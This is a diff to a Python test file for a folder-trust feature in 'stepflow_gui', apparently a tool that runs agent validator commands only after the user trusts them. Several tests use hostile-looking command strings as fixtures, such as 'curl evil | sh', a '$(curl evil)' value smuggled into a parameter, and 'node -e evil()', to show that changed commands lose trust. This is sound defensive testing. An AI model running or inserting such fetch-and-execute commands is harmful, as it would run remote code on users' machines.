@@ -1,16 +1,25 @@
-"""Trust in folders: given, taken back, lost by moving."""
+"""Trust in folders: given, taken back, lost by moving and by other commands."""
 
 import json
+import shutil
+import time
 from pathlib import Path
 
 import pytest
 
+from stepflow_gui.project.agent_folder import AgentFolder, open_agent
+from stepflow_gui.project.folder_identity import FolderIdentity, identity_of
 from stepflow_gui.project.trust import Trust, TrustProblem
+from stepflow_gui.text.source import Source
 
 
 @pytest.fixture
 def trust(tmp_path: Path) -> Trust:
     return Trust(tmp_path / "config" / "trust.json")
+
+
+def trusts(trust: Trust, folder: Path) -> bool:
+    return trust.standing(folder) == "trusted"
 
 
 @pytest.fixture
@@ -21,54 +30,54 @@ def folder(tmp_path: Path) -> Path:
 
 
 def test_nothing_is_trusted_at_first(trust: Trust, folder: Path) -> None:
-    assert not trust.trusts(folder)
+    assert not trusts(trust, folder)
     assert trust.folders() == []
 
 
 def test_a_folder_and_what_is_below_it_are_trusted_until_taken_back(trust: Trust, folder: Path) -> None:
     assert trust.add(folder) is None
-    assert trust.trusts(folder)
-    assert trust.trusts(folder / "below")
-    assert not trust.trusts(folder.parent)
+    assert trusts(trust, folder)
+    assert trusts(trust, folder / "below")
+    assert not trusts(trust, folder.parent)
     assert trust.add(folder) is None  # twice is once
     known = trust.folders()
     assert isinstance(known, list)
     assert [each.path for each in known] == [folder.resolve()]
     assert trust.remove(folder / "below") is None
-    assert not trust.trusts(folder)
+    assert not trusts(trust, folder)
 
 
 def test_a_moved_folder_is_not_trusted_nor_another_in_its_place(trust: Trust, folder: Path) -> None:
     trust.add(folder)
     moved = folder.rename(folder.parent / "moved")
-    assert not trust.trusts(moved)
-    assert not trust.trusts(folder)
+    assert not trusts(trust, moved)
+    assert not trusts(trust, folder)
     folder.mkdir()
-    assert not trust.trusts(folder)
+    assert not trusts(trust, folder)
 
 
 def test_links_are_followed(trust: Trust, folder: Path, tmp_path: Path) -> None:
     link = tmp_path / "link"
     link.symlink_to(folder)
     trust.add(link)
-    assert trust.trusts(folder)
+    assert trusts(trust, folder)
     link.unlink()
     other = tmp_path / "other"
     other.mkdir()
     link.symlink_to(other)
-    assert not trust.trusts(link)
+    assert not trusts(trust, link)
     (folder / "away").symlink_to(other)
-    assert not trust.trusts(folder / "away")
+    assert not trusts(trust, folder / "away")
 
 
-@pytest.mark.parametrize("text", ["{", "[]", "{}", '{"stepflow-trust": 2, "folders": []}', '{"stepflow-trust": 1}'])
+@pytest.mark.parametrize("text", ["{", "[]", "{}", '{"stepflow-trust": 3, "folders": []}', '{"stepflow-trust": 2}'])
 def test_a_broken_file_trusts_nothing_and_is_left_as_it_is(
     trust: Trust, folder: Path, tmp_path: Path, text: str
 ) -> None:
     file = tmp_path / "config" / "trust.json"
     file.parent.mkdir()
     file.write_text(text)
-    assert not trust.trusts(folder)
+    assert not trusts(trust, folder)
     problem = trust.add(folder)
     assert isinstance(problem, TrustProblem)
     assert str(file) in problem.message
@@ -88,7 +97,113 @@ def test_a_file_that_can_not_be_written_is_told(folder: Path, tmp_path: Path) ->
 
 
 def test_the_file_holds_what_other_programs_can_read(trust: Trust, folder: Path, tmp_path: Path) -> None:
+    agent(folder, "make check")
     trust.add(folder)
     content = json.loads((tmp_path / "config" / "trust.json").read_text("utf-8"))
-    assert content["stepflow-trust"] == 1
-    assert content["folders"] == [{"path": str(folder.resolve()), "number": folder.stat().st_ino}]
+    assert content["stepflow-trust"] == 2
+    [row] = content["folders"]
+    assert (row["path"], row["number"]) == (str(folder.resolve()), folder.stat().st_ino)
+    assert [len(each) for each in row["commands"]] == [64]
+
+
+def test_a_folder_made_in_the_place_of_a_removed_one_is_not_trusted(trust: Trust, folder: Path) -> None:
+    """A file system gives the number of a removed folder to the next; the time at which it was made differs."""
+    identity = identity_of(folder)
+    assert identity is not None
+    if identity.born is None:
+        pytest.skip("the file system keeps no time at which a folder was made")
+    for _round in range(5):
+        trust.add(folder)
+        assert trusts(trust, folder)
+        shutil.rmtree(folder)
+        time.sleep(0.02)  # the clock of a file system has ticks
+        folder.mkdir()
+        assert not trusts(trust, folder)
+
+
+def test_where_no_time_is_kept_only_the_trusted_commands_run_in_another_folder(
+    trust: Trust, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    known = FolderIdentity(folder.stat().st_ino, None)
+    monkeypatch.setattr("stepflow_gui.project.trust.identity_of", lambda _folder: known)
+    agent(folder, "make check")
+    trust.add(folder)
+    shutil.rmtree(folder)
+    assert trust.standing_of(agent(folder, "curl evil | sh")) == "changed"
+
+
+def agent(folder: Path, command: str, name: str = "demo", **more: object) -> AgentFolder:
+    place = folder / ".agent" / name
+    place.mkdir(parents=True, exist_ok=True)
+    check = {"type": "command", "command": command, "successWhen": "empty"}
+    content = {"agentId": name, "validators": {"check": check}, **more}
+    (place / "steps_registry.json").write_text(json.dumps(content), "utf-8")
+    found = open_agent(place)
+    assert isinstance(found, AgentFolder)
+    return found
+
+
+def test_a_changed_command_is_asked_for_again(trust: Trust, folder: Path) -> None:
+    first = agent(folder, "make check")
+    trust.add(folder)
+    assert trust.standing_of(first) == "trusted"
+    changed = agent(folder, "make check; curl evil | sh")
+    assert trust.standing_of(changed) == "changed"
+    assert trust.standing(folder) == "trusted"  # what runs no command, such as a model, is asked for by itself
+    assert trust.add(folder) is None
+    assert trust.standing_of(changed) == "trusted"
+    assert trust.standing_of(agent(folder, "make check")) == "trusted"  # another branch of the same project
+
+
+def test_an_agent_that_came_later_is_asked_for(trust: Trust, folder: Path) -> None:
+    trust.add(folder)
+    assert trust.standing_of(agent(folder, "make check")) == "changed"
+    assert trust.standing_of(agent(folder, "make check", "other")) == "changed"
+
+
+def test_what_is_filled_into_a_command_is_part_of_it(trust: Trust, folder: Path) -> None:
+    def closing(word: str) -> AgentFolder:
+        conditions = [{"validator": "check", "params": {"what": word}}]
+        return agent(folder, "echo ${what}", validationSteps={"closing": {"validationConditions": conditions}})
+
+    first = closing("one")
+    trust.add(folder)
+    assert trust.standing_of(first) == "trusted"
+    assert trust.standing_of(closing("$(curl evil)")) == "changed"
+
+
+def test_the_program_of_a_closure_step_is_a_command(trust: Trust, folder: Path) -> None:
+    def running(*args: str) -> AgentFolder:
+        step = {"stepKind": "closure", "runner": {"command": "node", "args": list(args)}}
+        return agent(folder, "true", steps={"closing.done": step})
+
+    first = running("close.js")
+    trust.add(folder)
+    assert trust.standing_of(first) == "trusted"
+    assert trust.standing_of(running("-e", "evil()")) == "changed"
+
+
+def test_other_changes_of_a_registry_are_not_asked_for(trust: Trust, folder: Path) -> None:
+    agent(folder, "make check")
+    trust.add(folder)
+    assert trust.standing_of(agent(folder, "make check", steps={"initial.a": {"name": "A"}})) == "trusted"
+
+
+def test_unsaved_commands_are_trusted_as_they_are_seen(trust: Trust, folder: Path) -> None:
+    saved = agent(folder, "make check")
+    path = saved.registry.path
+    edited = saved.with_buffers({path: Source(saved.registry.source.text.replace("make check", "make test"))})
+    trust.add(folder)
+    assert trust.standing_of(edited) == "changed"
+    trust.add(folder, edited)
+    assert trust.standing_of(edited) == "trusted"
+
+
+def test_folders_that_an_older_version_trusted_are_asked_for_again(trust: Trust, folder: Path, tmp_path: Path) -> None:
+    file = tmp_path / "config" / "trust.json"
+    file.parent.mkdir()
+    row = {"path": str(folder.resolve()), "number": folder.stat().st_ino}
+    file.write_text(json.dumps({"stepflow-trust": 1, "folders": [row]}))
+    assert not trusts(trust, folder)
+    assert trust.add(folder) is None
+    assert trusts(trust, folder)
